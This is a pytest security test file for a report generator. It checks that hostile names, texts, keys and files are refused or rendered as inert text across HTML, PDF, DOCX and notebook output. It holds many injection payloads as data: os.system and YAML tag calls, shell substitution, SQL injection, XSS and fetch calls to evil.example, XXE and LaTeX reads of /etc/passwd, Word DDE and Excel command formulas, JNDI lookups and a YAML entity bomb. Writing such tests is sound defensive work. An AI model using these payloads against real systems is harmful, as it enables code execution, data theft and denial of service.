"""Whatever stands in a report's names, texts, keys and cells is refused or shown as the text that it is."""

from __future__ import annotations

import io
import json
import os
import re
import unicodedata
from dataclasses import dataclass, replace
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING, Any

import docx
import nbformat.v4
import pytest
import yaml
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from lxml import etree
from markdown_it import MarkdownIt
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from tests.cli.invoke import invoke
from tests.export import docx_reader, html_reader, pdf_reader
from tests.factories import report
from tests.harmless import harm_in
from tests.intake.writing import sample
from tests.kit import PARAMS, Done, files_below, nianbao, write_params

from helpers.display.view import ReportView
from helpers.export.docx import DocxExporter
from helpers.export.html import HtmlExporter
from helpers.export.pdf import PdfExporter
from helpers.form import Report, Text, Titled
from helpers.intake import ReadError, parameters_of, read, report_from_parameters

if TYPE_CHECKING:
    from collections.abc import Mapping

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CANARY = "canary"
TOUCH = f"touch {CANARY}"
FORMATS = ("html", "pdf", "docx")

TEXTS = {
    "python-call": f"__import__('os').system('{TOUCH}')",
    "python-break-out": f"\"); import os; os.system('{TOUCH}') #",
    "python-triple-quotes": f"'''\"\"\"\\'''; open('{CANARY}','w') #",
    "python-backslash": f"\\\"+open('{CANARY}','w').name+\"\\",
    "python-f-string": f"f{{open('{CANARY}','w')}} %s %(x)s {{0.__class__}}",
    "magic": f"!{TOUCH}",
    "cell-magic": f"%%bash {TOUCH}",
    "pickle": "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU",
    "jinja-statement": f"{{% import os %}}{{% set x = os.system('{TOUCH}') %}}",
    "jinja-comment": "{# 注 #}",
    "shell-substitution": f"$({TOUCH})`{TOUCH}`;{TOUCH}|{TOUCH}&&{TOUCH}",
    "shell-variable": "${HOME} $PATH ~root %USERPROFILE%",
    "sql": "'); DROP TABLE tries; --",
    "html-script": f"<script>fetch('https://evil.example/{CANARY}')</script>",
    "html-image": "<img src=https://evil.example/x.png onerror=alert(1)>",
    "html-attribute": '" onmouseover="alert(1)" x="',
    "html-comment": "--><script>alert(1)</script><!--",
    "html-head": "</title></style></head><body onload=alert(1)><base href=//evil.example>",
    "html-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "html-style": "<style>@import url(https://evil.example)</style><p style='background:url(//evil.example)'>",
    "html-frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "xml-entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "cdata": "]]><![CDATA[<b>x</b>]]>",
    "markdown-link": "[点这里](javascript:alert(1))",
    "markdown-data-link": "[点](data:text/html;base64,PHNjcmlwdD4=)",
    "markdown-image": "![图](https://evil.example/track.png)",
    "markdown-autolink": "<javascript:alert(1)> <file:///etc/passwd>",
    "typst-import": '#import "@preview/cetz:0.3.0" #include "/etc/passwd"',
    "typst-code": '#eval("1+1") #read("/etc/passwd") #{1+1}',
    "typst-markup": "*b* _e_ $x^2$ = h <l> @r \\ ~ `r` // c /* c */",
    "latex": "\\input{/etc/passwd}\\write18{" + TOUCH + "}$$\\frac12$$",
    "word-field": '{ INCLUDETEXT "C:\\\\secret.txt" } { DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" }',
    "word-xml": '</w:t></w:r><w:fldSimple w:instr="DATE"/><w:r><w:t>',
    "excel-formula": "=cmd|'/C calc'!A0",
    "yaml-tag": f"!!python/object/apply:os.system ['{TOUCH}']",
    "yaml-document": "--- a: b ... *anchor &anchor",
    "path": "../../../../etc/passwd\\..\\..\\C:",
    "path-absolute": "/etc/passwd",
    "jndi": "${jndi:ldap://evil.example/a}",
    "percent": "%00%0d%0aSet-Cookie:x=1",
    "combining": "字" + "e\u0301\u0323\u0330" * 60,
    "private-use": "\ue000\uf8ff\U000f0000",
    "right-to-left": "שלום مرحبا",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "rare-character": "𠮷龘〇",
    "wide-blanks": "甲\u00a0乙\u3000丙\u2003丁",
    "entity-bidi": "&#x202e;倒&#8294;",
    "entity-null": "&#0;&#xd800;&#x1b;[31m",
}
"""Texts that a reader lets through or refuses by its own lights, and that none may obey."""

UNSEEN = {
    "null": "甲\x00乙",
    "escape": "甲\x1b[31m乙",
    "bell": "甲\x07乙",
    "bidi-override": "甲\u202e乙",
    "bidi-isolate": "甲\u2066乙",
    "line-separator": "甲\u2028乙",
    "byte-order-mark": "甲\ufeff乙",
    "surrogate": "甲\ud800乙",
    "noncharacter": "甲\uffff乙",
    "next-line": "甲\x85乙",
}
"""Texts with characters that nobody sees; a file that holds them, escaped or not, is refused."""

PLACES = (
    "office.name",
    "office.kind",
    "narrative.preamble",
    "narrative.other",
    "narrative.overview.more[0].title",
    "narrative.overview.more[0].text",
    "reasons.XY-NORM",
)
CELLS = ("proactive.licences", "proactive.fees", "applications.received[0]", "appeals.reconsideration[4]")

KEYS = (
    f"x=1\nimport os; os.system('{TOUCH}')#",
    f"__import__('os').system('{TOUCH}')",
    "__builtins__",
    "__class__",
    "papermill",
    "settings",
    "get_ipython",
    "open_report",
    "{{ year }}",
    "<script>alert(1)</script>",
    "#import",
    "../../x",
    "a" * 10_000,
    "甲\u202e乙",
    "",
    "1",
    "null",
)
LEVELS = (
    "",
    "office",
    "narrative",
    "narrative.overview",
    "narrative.overview.more[0]",
    "proactive",
    "applications",
    "applications.refused",
    "appeals",
    "reasons",
    "previous",
)

DOCUMENTS = {
    "tag": f"!!python/object/apply:os.system ['{TOUCH}']\n",
    "tag-in-text": f"office: !!python/object/apply:os.system ['{TOUCH}']\n",
    "tag-on-name": "office: {name: !!python/name:os.system '', kind: 街道}\n",
    "own-tag": "office: !include /etc/passwd\n",
    "anchor-loop": "office: &a [*a]\n",
    "laughs": "a: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(
        f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    ),
    "merge": "base: &b {name: 甲}\noffice: {<<: *b, kind: 街道}\n",
    "deep": "office: " + "[" * 20_000 + "\n",
    "deep-blocks": "".join(f"{' ' * depth}a:\n" for depth in range(2000)),
    "two-documents": sample() + "---\n" + sample(),
    "json": '{"office": "<script>"}\n',
    "xml": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>\n",
    "directive": "%YAML 1.1\n%TAG ! tag:evil.example,2000:\n--- !x\noffice: yes\n",
    "python": f"import os; os.system('{TOUCH}')\n",
    "null-bytes": "office: \x00\n",
    "huge-number": sample(2021, ("  licences: 0\n", f"  licences: {'9' * 5000}\n")),
    "huge-exponent": sample(2021, ("  fees: 0\n", "  fees: 1e999999999\n")),
    "not-a-number": sample(2021, ("  fees: 0\n", "  fees: .nan\n")),
}


def test_there_are_enough_of_them() -> None:
    assert len(TEXTS) + len(UNSEEN) >= 25
    assert len(KEYS) * len(LEVELS) >= 25


@pytest.mark.parametrize(
    "page",
    [
        "<script>1</script>",
        "<img src=https://evil.example/x.png>",
        "<img src='data:image/png;base64,AA=='>",
        "<a href=javascript:1>x</a>",
        "<p onclick=1>x</p>",
        "<p style='color:red'>x</p>",
        "<iframe></iframe>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<style>@import 'x'</style>",
    ],
)
def test_harm_in_a_page_is_seen(page: str) -> None:
    assert harm_in(f"<html><body><main>{page}</main></body></html>".encode(), "html")


def test_harm_in_other_formats_is_seen() -> None:
    files = rendered(report(), "pdf", "docx")
    for kind, content in files.items():
        assert harm_in(content, kind) == []
    document = docx.Document(io.BytesIO(files["docx"]))
    document.paragraphs[0]._p.append(OxmlElement("w:fldSimple", attrs={qn("w:instr"): "DATE"}))
    document.part.relate_to("file:///c:/x.dotm", f"{RELATIONS}/attachedTemplate", is_external=True)
    document.save(changed := io.BytesIO())
    assert len(harm_in(changed.getvalue(), "docx")) == 2
    writer = PdfWriter(clone_from=io.BytesIO(files["pdf"]))
    action = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("javascript:1")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    writer.write(changed := io.BytesIO())
    assert harm_in(changed.getvalue(), "pdf") == ["/OpenAction in the PDF", "a link to javascript:1"]
    notebook = nbformat.reads(files["ipynb"].decode(), as_version=4)
    notebook.cells.append(
        nbformat.v4.new_code_cell("x = open('x')", metadata={"tags": ["injected-parameters"]})
    )
    assert harm_in(nbformat.writes(notebook).encode(), "ipynb")


def base() -> dict[str, Any]:
    """A report as parameters, with something at every place."""
    given: dict[str, Any] = parameters_of(report())
    given["narrative"]["preamble"] = "前言。"
    given["narrative"]["overview"]["more"] = [{"title": "其他", "text": "文字。"}]
    given["reasons"] = {"XY-NORM": "清理口径调整"}
    given["previous"] = {
        key: parameters_of(report())[key] for key in ("edition", "narrative", "proactive")
    } | {key: parameters_of(report())[key] for key in ("applications", "appeals")}
    return json.loads(json.dumps(given))  # type: ignore[no-any-return]


def steps(address: str) -> list[str | int]:
    return [int(step) if step.isdigit() else step for step in re.findall(r"[\w-]+", address)]


def put(given: dict[str, Any], address: str, value: object) -> dict[str, Any]:
    """Set what stands at an address."""
    *way, last = steps(address)
    node: Any = given
    for step in way:
        node = node[step]
    node[last] = value
    return given


def file_of(folder: Path, given: Mapping[str, Any], *, escaped: bool = False) -> Path:
    """A params file; JSON is YAML."""
    path = folder / "2022.yaml"
    path.write_text(json.dumps(given, ensure_ascii=escaped, indent=1), encoding="utf-8")
    return path


def told(path: Path) -> Report | ReadError:
    """The report in a file, or why there is none."""
    try:
        return read(path).report
    except ReadError as error:
        return error


@pytest.fixture(autouse=True)
def no_canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Nothing that a text asks for may happen: no canary is left in the working folder."""
    monkeypatch.chdir(tmp_path)
    yield
    assert not [name for name in files_below(tmp_path) if Path(name).name == CANARY]


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", TEXTS)
def test_a_text_is_refused_where_it_stands_or_read_as_it_is(tmp_path: Path, name: str, place: str) -> None:
    text = TEXTS[name]
    found = told(file_of(tmp_path, put(base(), place, text)))
    if isinstance(found, ReadError):
        assert [finding.cell for finding in found.findings] == [place]
        assert found.findings[0].line
        return
    back: Any = parameters_of(found)
    for step in steps(place):
        back = back[step]
    assert back == text
    # The notebook reads its parameters as strictly.
    assert report_from_parameters(**parameters_of(found)).office == found.office


@pytest.mark.parametrize("place", [*PLACES, *CELLS])
@pytest.mark.parametrize("name", UNSEEN)
def test_a_text_with_characters_that_nobody_sees_is_refused(tmp_path: Path, name: str, place: str) -> None:
    found = told(file_of(tmp_path, put(base(), place, UNSEEN[name]), escaped=True))
    assert isinstance(found, ReadError)
    assert found.message.isprintable()


@pytest.mark.parametrize("cell", CELLS)
@pytest.mark.parametrize("name", TEXTS)
def test_a_text_in_a_cell_is_a_fault_that_is_told_in_plain_words(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, cell: str
) -> None:
    path = file_of(tmp_path, put(base(), cell, TEXTS[name]))
    done = invoke(capsys, "check", "--json", path)
    assert done.code in (1, 2)
    assert cell in {finding["cell"] for finding in done.json}
    assert all(finding["message"].isprintable() for finding in done.json)


@pytest.mark.parametrize("level", LEVELS)
@pytest.mark.parametrize("key", KEYS, ids=range(len(KEYS)))
def test_a_key_that_is_not_the_contracts_is_refused(tmp_path: Path, key: str, level: str) -> None:
    given = base()
    node: Any = given
    for step in steps(level):
        node = node[step]
    node[key] = 1
    found = told(file_of(tmp_path, given, escaped=True))
    assert isinstance(found, ReadError)
    assert found.message.isprintable()
    assert len(found.findings[0].message) < 300
    assert found.findings[0].line


@pytest.mark.parametrize("key", [key for key in KEYS if key != "settings"])
def test_a_parameter_that_is_not_the_contracts_is_refused(key: str) -> None:
    with pytest.raises(ReadError):
        report_from_parameters(**{**base(), key: 1})


@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_file_that_is_more_than_data_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    path = write_params(tmp_path, "a/x/2022", DOCUMENTS[name])
    done = invoke(capsys, "check", "--json", path)
    assert done.code in (1, 2)
    assert all(finding["message"].isprintable() and len(finding["message"]) < 300 for finding in done.json)


def essence(text: str) -> str:
    """Letters, digits and characters of a text: what every format shows of it, whatever its white space."""
    plain = unicodedata.normalize("NFD", re.sub("〔U\\+[0-9A-F]+〕", "", text))
    return "".join(re.findall("[0-9A-Za-z\u4e00-\u9fff]", plain))


EXPORTERS: dict[str, Any] = {"html": HtmlExporter, "pdf": PdfExporter, "docx": DocxExporter}


@cache
def exporter(kind: str) -> Any:
    return EXPORTERS[kind]()


def rendered(made: Report, *formats: str) -> dict[str, bytes]:
    """A report in formats and as a notebook, without a kernel: the outputs are what the cells would show."""
    new: Any = nbformat.v4
    outputs = [
        new.new_output("execute_result", output._repr_mimebundle_(), execution_count=1)
        for output in ReportView(made).outputs()
    ]
    notebook = new.new_notebook(cells=[new.new_code_cell("show()", outputs=[output]) for output in outputs])
    files = {"ipynb": nbformat.writes(notebook).encode("utf-8", "replace")}
    for kind in formats:
        content = exporter(kind).from_notebook_node(notebook)[0]
        files[kind] = content.encode() if isinstance(content, str) else content
    return files


def shown(content: bytes, kind: str) -> str:
    """What a reader of the file reads."""
    if kind == "html":
        return str(html_reader.parse(content).xpath("//body")[0].text_content())
    if kind == "pdf":
        return pdf_reader.structure(content).text
    document = docx_reader.part(content)
    return "\n".join(docx_reader.text_of(node) for node in docx_reader.find(document, "//w:p"))


def dressed(*texts: str) -> Report:
    """A report with the texts at every place at which texts are shown."""
    cells = dict(zip(report().edition.fields, texts, strict=False))
    made = report(changes=cells)
    narrative = replace(
        made.narrative,
        preamble=Text("\n\n".join(texts)),
        parts={**made.narrative.parts, "other": Text("\n\n".join(f"正文{text}" for text in texts))},
        more=tuple(Titled(Text(text), Text(f"- {text}\n\n> {text}\n")) for text in texts),
    )
    return replace(made, office=replace(made.office, name=f"示例{texts[0]}办事处"), narrative=narrative)


def marked(text: str) -> str:
    """What a stock Markdown renderer has a reader read."""
    page = MarkdownIt("commonmark", {"html": False}).render(text)
    page = re.sub(r'<img[^>]*alt="([^"]*)"[^>]*>', r"\1", page)
    return str(html_reader.parse(f"<main>{page}</main>").text_content())


def check_shown(content: bytes, kind: str, *texts: str) -> None:
    """Title, preamble, heading, item, quotation, section and cell: each shows the text, and nothing is done."""
    assert harm_in(content, kind) == []
    if kind in FORMATS:
        whole = essence(shown(content, kind))
        assert essence(f"示例{texts[0]}办事处") in whole
        for text in texts:
            # As it stands in a heading and a cell; as Markdown in two paragraphs, an item and a quotation.
            assert whole.count(essence(text)) >= 2, text
            assert whole.count(essence(marked(text))) >= 4, text


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_is_shown_as_text_on_the_page_and_does_nothing(name: str) -> None:
    for kind, content in rendered(dressed(TEXTS[name]), "html").items():
        check_shown(content, kind, TEXTS[name])


@pytest.mark.parametrize("kind", ["pdf", "docx"])
@pytest.mark.parametrize("first", range(0, len(TEXTS), 7))
def test_texts_are_shown_as_text_in_print_and_do_nothing(kind: str, first: int) -> None:
    texts = list(TEXTS.values())[first : first + 7]
    check_shown(rendered(dressed(*texts), kind)[kind], kind, *texts)


@pytest.mark.parametrize("kind", FORMATS)
def test_characters_that_nobody_sees_are_left_out(kind: str) -> None:
    """They don't come this far from a file; a notebook that somebody changed may hold them."""
    content = rendered(dressed(*UNSEEN.values()), kind)[kind]
    check_shown(content, kind, *UNSEEN.values())
    unseen = set("".join(UNSEEN.values())) - set("甲乙[31m\u2028\x85")
    assert not unseen & set(shown(content, kind))


@pytest.mark.parametrize(
    "text",
    [
        "长" * 10_000,
        "a" * 4000,
        "> " * 500 + "深",
        "- " * 300 + "深",
        "*" * 1000,
        "[" * 1000,
        "`" * 999,
        "\n" * 5000,
    ],
    ids=["wide", "narrow", "quotes", "lists", "stars", "brackets", "ticks", "lines"],
)
def test_a_monstrous_text_is_shown(text: str) -> None:
    made = report()
    parts = {**made.narrative.parts, "other": Text(text)}
    for kind, content in rendered(
        replace(made, narrative=replace(made.narrative, parts=parts)), *FORMATS
    ).items():
        assert harm_in(content, kind) == [], kind
        if kind in FORMATS:
            assert essence(text) in essence(shown(content, kind))


def test_a_picture_and_a_link_elsewhere_load_nothing() -> None:
    text = "![图](https://evil.example/a.png) [链](https://example.gov.cn) <mailto:a@example.gov.cn>"
    made = report()
    files = rendered(replace(made, narrative=replace(made.narrative, preamble=Text(text))), *FORMATS)
    for kind, content in files.items():
        assert harm_in(content, kind) == []
    assert b"evil.example" not in files["html"]
    assert "evil.example" not in etree.tostring(docx_reader.part(files["docx"]), encoding="unicode")


@dataclass(frozen=True)
class Batch:
    """A batch of hostile reports, built by the command."""

    folder: Path
    done: Done

    @property
    def statuses(self) -> dict[str, str]:
        return {report["report"]: report["status"] for report in json.loads(self.done.stdout)}


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> Batch:
    """Names, texts, titles, reasons, cells and keys that would be code, as drafts so that even faulty ones are built."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "home").mkdir()
    narrative = base()
    texts = [text for text in TEXTS.values() if "{{" not in text]
    narrative["narrative"]["preamble"] = "\n\n".join(texts)
    narrative["narrative"]["overview"]["more"] = [
        {"title": text.strip(), "text": f"- {text}"} for text in texts[:20]
    ]
    narrative["reasons"]["XY-REG"] = TEXTS["python-break-out"]
    named = put(base(), "office.name", TEXTS["python-break-out"])
    put(named, "office.kind", TEXTS["jinja-statement"])
    celled = put(base(), "applications.received[0]", TEXTS["excel-formula"])
    put(celled, "proactive.licences", TEXTS["sql"])
    put(celled, "appeals.reconsideration[0]", "<b>1</b>")
    keyed = {**base(), KEYS[0]: 1}
    for name, given in {"texts": narrative, "named": named, "celled": celled, "keyed": keyed}.items():
        del given["previous"]
        write_params(folder, f"a/{name}/2022", yaml.safe_dump(given, allow_unicode=True))
    environment = {"HOME": str(folder / "home"), "PYTHONWARNINGS": "ignore"}
    return Batch(folder, nianbao("run", "--draft", "--json", "--out", "build", cwd=folder, env=environment))


@pytest.mark.notebook
def test_a_hostile_batch_is_built_or_refused(batch: Batch) -> None:
    assert batch.statuses == {
        "a/texts/2022": "ok",
        "a/named/2022": "ok",
        "a/celled/2022": "ok",
        "a/keyed/2022": "refused",
    }, batch.done.stderr


@pytest.mark.notebook
def test_a_hostile_batch_leaves_nothing_but_its_own_files(batch: Batch) -> None:
    files = files_below(batch.folder)
    assert not [name for name in files if Path(name).name == CANARY]
    outside = [name for name in files if not name.startswith(("build/", "params/", "home/."))]
    assert outside == []
    assert {path.name for path in (batch.folder / "build").iterdir()} >= {"a", "index.html", "ledger.sqlite"}
    assert sorted(path.name for path in (batch.folder / "build" / "a").iterdir()) == [
        *("celled", "keyed", "named", "texts"),
    ]


@pytest.mark.notebook
@pytest.mark.parametrize("name", ["texts", "named", "celled"])
@pytest.mark.parametrize("kind", [*FORMATS, "ipynb"])
def test_a_hostile_report_is_harmless_in_every_format(batch: Batch, name: str, kind: str) -> None:
    content = (batch.folder / f"build/a/{name}/2022/report.{kind}").read_bytes()
    assert harm_in(content, kind) == []


@pytest.mark.notebook
@pytest.mark.parametrize("kind", FORMATS)
def test_a_hostile_report_shows_its_texts(batch: Batch, kind: str) -> None:
    whole = essence(shown((batch.folder / f"build/a/texts/2022/report.{kind}").read_bytes(), kind))
    for name, text in TEXTS.items():
        if "{{" not in text:
            assert essence(marked(text)) in whole, name
    name = essence(shown((batch.folder / f"build/a/named/2022/report.{kind}").read_bytes(), kind))
    assert essence(TEXTS["python-break-out"]) in name


@pytest.mark.notebook
def test_the_index_of_a_hostile_batch_shows_its_names(batch: Batch) -> None:
    page = html_reader.parse((batch.folder / "build/index.html").read_bytes())
    assert TEXTS["python-break-out"] in page.text_content()
    assert not page.xpath("//img[starts-with(@src, 'http')] | //iframe | //object | //*[@onerror or @onload]")


@pytest.mark.parametrize(
    "name",
    ["$(touch canary)", "; touch canary", "<img src=x>", "a\nb", "a\x1b[2Jb", "-rf", "{{x}}", "ａ", "a" * 65],
)
def test_a_folder_whose_name_would_be_code_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    write_params(tmp_path, f"a/{name}/2022")
    done = invoke(capsys, "run")
    assert done.code == 2
    assert "READ" in done.out
    assert len(done.out.splitlines()) == 2
    assert set(files_below(tmp_path / "build")) <= {"index.html", "ledger.sqlite"}
    page = (tmp_path / "build" / "index.html").read_bytes()
    assert not html_reader.parse(page).xpath("//img | //*[@onerror or @onload]")


def test_a_pipe_in_the_place_of_params_is_refused_and_waited_for_by_nobody(tmp_path: Path) -> None:
    path = write_params(tmp_path, "a/x/2022")
    path.unlink()
    os.mkfifo(path)
    done = nianbao("run", cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert "这不是普通文件" in done.stdout
    assert (tmp_path / "build" / "index.html").is_file()


def test_papermill_itself_would_run_a_key(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """papermill writes a parameter's name into the notebook as it is; that is why the kit reads keys first."""
    from papermill.translators import PythonTranslator

    assert "os.system" in PythonTranslator.codify({KEYS[0]: 1}).splitlines()[2]
    path = write_params(
        tmp_path, "a/x/2022", (PARAMS / "laocheng/xiguan/2022.yaml").read_text(encoding="utf-8")
    )
    path.write_text(path.read_text(encoding="utf-8") + yaml.safe_dump({KEYS[0]: 1}), encoding="utf-8")
    done = invoke(capsys, "check", path)
    assert done.code == 2
    assert "这个键" in done.out
